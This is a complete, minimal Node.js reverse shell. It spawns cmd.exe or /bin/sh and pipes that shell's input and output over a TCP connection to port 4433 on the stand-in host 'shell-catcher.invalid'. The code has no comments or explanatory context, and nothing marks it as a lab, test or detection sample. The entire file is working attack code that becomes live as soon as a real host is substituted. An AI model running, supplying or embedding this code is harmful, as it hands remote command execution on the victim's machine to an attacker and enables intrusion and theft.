const net = require('net');
const { spawn } = require('child_process');

const shell = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
const client = new net.Socket();
client.connect(4433, 'shell-catcher.invalid', () => {
  client.pipe(shell.stdin);
  shell.stdout.pipe(client);
  shell.stderr.pipe(client);
});
client.on('error', () => shell.kill());
